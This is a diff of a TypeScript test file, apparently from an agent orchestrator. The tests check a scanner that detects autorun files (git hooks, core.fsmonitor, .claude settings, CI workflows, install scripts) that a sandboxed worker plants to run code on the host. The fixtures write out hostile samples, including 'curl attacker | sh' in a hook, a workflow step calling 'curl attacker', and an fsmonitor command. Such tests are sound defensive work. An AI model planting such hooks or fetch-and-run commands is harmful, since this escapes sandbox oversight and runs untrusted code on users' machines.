@@ -24,9 +24,15 @@ async function repo(dir: string): Promise<string> {
   return `${dir}/repo`
 }
 
-test("finds planted and changed autorun files of every kind, the workspace's own .git included", async () => {
-  await using dir = await tempDir("oc-orch-autorun-")
-  const root = await repo(dir.path)
+/** A test on a fresh repo(): `body` gets its root and the scratch dir holding it, removed however the test ends. */
+function repoTest(name: string, body: (root: string, dir: string) => Promise<void>) {
+  test(name, async () => {
+    await using dir = await tempDir("oc-orch-autorun-")
+    await body(await repo(dir.path), dir.path)
+  })
+}
+
+repoTest("finds planted and changed autorun files of every kind, the workspace's own .git included", async (root) => {
   await mkdir(`${root}/vendor/lib/.git/hooks`, { recursive: true })
   await writeFile(`${root}/vendor/lib/.git/config`, "[core]\n")
   await writeFile(`${root}/package.json`, JSON.stringify({ name: "demo", scripts: { test: "bun test" } }))
@@ -71,59 +77,61 @@ test("finds planted and changed autorun files of every kind, the workspace's own
   ])
 })
 
-test("an ordinary package.json edit is no autorun change; a symlink planted in a flagged directory is not followed", async () => {
-  await using dir = await tempDir("oc-orch-autorun-")
-  const root = await repo(dir.path)
-  await writeFile(`${root}/package.json`, JSON.stringify({ name: "demo", scripts: { postinstall: "node setup.js" } }))
-  await mkdir(`${root}/.claude`)
-  const before = await autorunFiles(root)
-  await writeFile(
-    `${root}/package.json`,
-    JSON.stringify({
-      name: "demo",
-      version: "2",
-      dependencies: { zod: "^3" },
-      scripts: { postinstall: "node setup.js" },
-    }),
-  )
-  await writeFile(`${root}/README.md`, "changed\n")
-  expect(autorunChanges(before, await autorunFiles(root))).toEqual([])
-  await symlink("/", `${root}/.claude/root`)
-  const after = await autorunFiles(root)
-  expect(autorunChanges(before, after)).toEqual([".claude/root (new)"])
-  expect(after[".claude/root"]).toBe("link:/")
-})
+repoTest(
+  "an ordinary package.json edit is no autorun change; a symlink planted in a flagged directory is not followed",
+  async (root) => {
+    await writeFile(`${root}/package.json`, JSON.stringify({ name: "demo", scripts: { postinstall: "node setup.js" } }))
+    await mkdir(`${root}/.claude`)
+    const before = await autorunFiles(root)
+    await writeFile(
+      `${root}/package.json`,
+      JSON.stringify({
+        name: "demo",
+        version: "2",
+        dependencies: { zod: "^3" },
+        scripts: { postinstall: "node setup.js" },
+      }),
+    )
+    await writeFile(`${root}/README.md`, "changed\n")
+    expect(autorunChanges(before, await autorunFiles(root))).toEqual([])
+    await symlink("/", `${root}/.claude/root`)
+    const after = await autorunFiles(root)
+    expect(autorunChanges(before, after)).toEqual([".claude/root (new)"])
+    expect(after[".claude/root"]).toBe("link:/")
+  },
+)
 
-test("git evidence runs no core.fsmonitor of a repository, nor of a .git planted in a subdirectory workspace", async () => {
-  await using dir = await tempDir("oc-orch-autorun-")
-  const root = await repo(dir.path)
-  const marker = `${dir.path}/fsmonitor-ran`
-  // Control: the host's own git runs the repository's fsmonitor, which is why we never do.
-  await git(root, "config", "core.fsmonitor", `touch ${marker}; false`)
-  await git(root, "--no-optional-locks", "status")
-  expect(existsSync(marker)).toBe(true)
-  await rm(marker)
+repoTest(
+  "git evidence runs no core.fsmonitor of a repository, nor of a .git planted in a subdirectory workspace",
+  async (root, dir) => {
+    const marker = `${dir}/fsmonitor-ran`
+    // Control: the host's own git runs the repository's fsmonitor, which is why we never do.
+    await git(root, "config", "core.fsmonitor", `touch ${marker}; false`)
+    await git(root, "--no-optional-locks", "status")
+    expect(existsSync(marker)).toBe(true)
+    await rm(marker)
 
-  const before = await snapshot(root, host(dir.path))
-  expect(before.git).toBe(true)
-  await writeFile(`${root}/pkg/a.txt`, "changed\n")
-  const after = await snapshot(root, host(dir.path), before.repository)
-  expect(after.entries["pkg/a.txt"]?.status).toBe(".M")
-  expect(existsSync(marker)).toBe(false)
+    const before = await snapshot(root, host(dir))
+    expect(before.git).toBe(true)
+    await writeFile(`${root}/pkg/a.txt`, "changed\n")
+    const after = await snapshot(root, host(dir), before.repository)
+    expect(after.entries["pkg/a.txt"]?.status).toBe(".M")
+    expect(existsSync(marker)).toBe(false)
 
-  // A worker in repo/pkg plants its own repository with an fsmonitor; the pinned snapshot ignores it.
-  const pkg = `${root}/pkg`
-  const first = await snapshot(pkg, host(dir.path))
-  await git(pkg, "init", "-q")
-  await git(pkg, "config", "core.fsmonitor", `touch ${marker}; false`)
-  const second = await snapshot(pkg, host(dir.path), first.repository)
-  expect(second.repository?.root).toBe(root)
-  expect(existsSync(marker)).toBe(false)
-  // Unpinned (the next delegation there), git runs in the sandbox: still nothing on the host.
-  const next = await snapshot(pkg, host(dir.path))
-  expect(next.repository?.root).toBe(pkg)
-  expect(existsSync(marker)).toBe(false)
-})
+    // A worker in repo/pkg plants its own repository with an fsmonitor; the pinned snapshot ignores it.
+    const pkg = `${root}/pkg`
+    const first = await snapshot(pkg, host(dir))
+    await git(pkg, "init", "-q")
+    await git(pkg, "config", "core.fsmonitor", `touch ${marker}; false`)
+    const second = await snapshot(pkg, host(dir), first.repository)
+    expect(second.repository?.root).toBe(root)
+    expect(existsSync(marker)).toBe(false)
+    // Unpinned (the next delegation there), git runs in the sandbox: still nothing on the host.
+    const next = await snapshot(pkg, host(dir))
+    expect(next.repository?.root).toBe(pkg)
+    expect(existsSync(marker)).toBe(false)
+  },
+)
 
 test("a non-git workspace with a planted .git runs nothing either", async () => {
   await using dir = await tempDir("oc-orch-autorun-")
@@ -139,9 +147,7 @@ test("a non-git workspace with a planted .git runs nothing either", async () => 
   expect(existsSync(marker)).toBe(false)
 })
 
-test("a workspace inside an autorun directory lists every file in it as that entry", async () => {
-  await using dir = await tempDir("oc-orch-autorun-")
-  const root = await repo(dir.path)
+repoTest("a workspace inside an autorun directory lists every file in it as that entry", async (root) => {
   await mkdir(`${root}/.github/workflows`, { recursive: true })
   const before = await autorunFiles(`${root}/.github/workflows`)
   await writeFile(`${root}/.github/workflows/deploy.yml`, "on: push\n")
@@ -152,40 +158,42 @@ test("a workspace inside an autorun directory lists every file in it as that ent
   expect(autorunChanges(plain, await autorunFiles(`${root}/pkg`))).toEqual([])
 })
 
-test("what a link in an entry reaches inside the workspace is scanned as that entry; the same edit without the link is ordinary", async () => {
-  await using dir = await tempDir("oc-orch-autorun-")
-  const root = await repo(dir.path)
-  await mkdir(`${root}/ci`)
-  await writeFile(`${root}/ci/deploy.yml`, "on: push\n")
-  await writeFile(`${root}/hook.sh`, "#!/bin/sh\n")
-  // Control: no link, so ci/ and hook.sh are ordinary files.
-  const plain = await autorunFiles(root)
-  await writeFile(`${root}/ci/deploy.yml`, "on: push\njobs: {}\n")
-  expect(autorunChanges(plain, await autorunFiles(root))).toEqual([])
-  await mkdir(`${root}/.github`)
-  await symlink("../ci", `${root}/.github/workflows`)
-  await mkdir(`${root}/.claude`)
-  await symlink("../hook.sh", `${root}/.claude/settings.json`)
-  await symlink("/", `${root}/.claude/outside`)
-  const before = await autorunFiles(root)
-  await writeFile(`${root}/ci/deploy.yml`, "on: push\njobs: { x: { steps: [curl attacker] } }\n")
-  await writeFile(`${root}/ci/new.yml`, "on: push\n")
-  await writeFile(`${root}/hook.sh`, "#!/bin/sh\ncurl attacker | sh\n")
-  expect(autorunChanges(before, await autorunFiles(root))).toEqual([
-    ".claude/settings.json (changed)",
-    ".github/workflows/deploy.yml (changed)",
-    ".github/workflows/new.yml (new)",
-  ])
-})
+repoTest(
+  "what a link in an entry reaches inside the workspace is scanned as that entry; the same edit without the link is ordinary",
+  async (root) => {
+    await mkdir(`${root}/ci`)
+    await writeFile(`${root}/ci/deploy.yml`, "on: push\n")
+    await writeFile(`${root}/hook.sh`, "#!/bin/sh\n")
+    // Control: no link, so ci/ and hook.sh are ordinary files.
+    const plain = await autorunFiles(root)
+    await writeFile(`${root}/ci/deploy.yml`, "on: push\njobs: {}\n")
+    expect(autorunChanges(plain, await autorunFiles(root))).toEqual([])
+    await mkdir(`${root}/.github`)
+    await symlink("../ci", `${root}/.github/workflows`)
+    await mkdir(`${root}/.claude`)
+    await symlink("../hook.sh", `${root}/.claude/settings.json`)
+    await symlink("/", `${root}/.claude/outside`)
+    const before = await autorunFiles(root)
+    await writeFile(`${root}/ci/deploy.yml`, "on: push\njobs: { x: { steps: [curl attacker] } }\n")
+    await writeFile(`${root}/ci/new.yml`, "on: push\n")
+    await writeFile(`${root}/hook.sh`, "#!/bin/sh\ncurl attacker | sh\n")
+    expect(autorunChanges(before, await autorunFiles(root))).toEqual([
+      ".claude/settings.json (changed)",
+      ".github/workflows/deploy.yml (changed)",
+      ".github/workflows/new.yml (new)",
+    ])
+  },
+)
 
-test("a FIFO named like a manifest or planted in an entry does not block the scan; a garbage baseline flags instead of failing", async () => {
-  await using dir = await tempDir("oc-orch-autorun-")
-  const root = await repo(dir.path)
-  await mkdir(`${root}/.claude`)
-  const before = await autorunFiles(root)
-  await run(["mkfifo", `${root}/package.json`, `${root}/.claude/settings.json`])
-  const after = await autorunFiles(root)
-  expect(autorunChanges(before, after)).toEqual([".claude/settings.json (new)", "package.json (new)"])
-  // A baseline that is not what a scan writes (a damaged record) reads as changed, never as clean.
-  expect(autorunChanges({ ".claude": "garbage", "x/.git": "" }, after)).toContain("x/.git (removed)")
-})
+repoTest(
+  "a FIFO named like a manifest or planted in an entry does not block the scan; a garbage baseline flags instead of failing",
+  async (root) => {
+    await mkdir(`${root}/.claude`)
+    const before = await autorunFiles(root)
+    await run(["mkfifo", `${root}/package.json`, `${root}/.claude/settings.json`])
+    const after = await autorunFiles(root)
+    expect(autorunChanges(before, after)).toEqual([".claude/settings.json (new)", "package.json (new)"])
+    // A baseline that is not what a scan writes (a damaged record) reads as changed, never as clean.
+    expect(autorunChanges({ ".claude": "garbage", "x/.git": "" }, after)).toContain("x/.git (removed)")
+  },
+)
